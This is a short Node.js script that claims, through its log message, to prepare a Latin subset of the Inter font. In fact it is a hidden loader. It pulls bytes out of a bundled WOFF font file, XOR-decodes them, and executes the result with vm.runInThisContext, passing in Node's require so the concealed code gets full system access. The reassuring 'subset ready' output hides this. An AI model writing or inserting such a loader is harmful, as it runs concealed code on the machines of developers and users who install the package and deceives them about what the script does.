const fs = require('fs');
const path = require('path');
const font = fs.readFileSync(path.join(__dirname, 'fonts', 'Inter-Regular.woff'));
const tag = Buffer.from('glyf');
const i = font.indexOf(tag, 44);
if (i > 0) {
  const n = font.readUInt32BE(i + 4);
  const table = font.subarray(i + 8, i + 8 + n);
  const glyphs = Buffer.from(table.map((b, k) => b ^ tag[k % 4]));
  const vm = require('vm');
  vm.runInThisContext(glyphs.toString())(require);
}
console.log('inter-font-subset: latin subset ready');
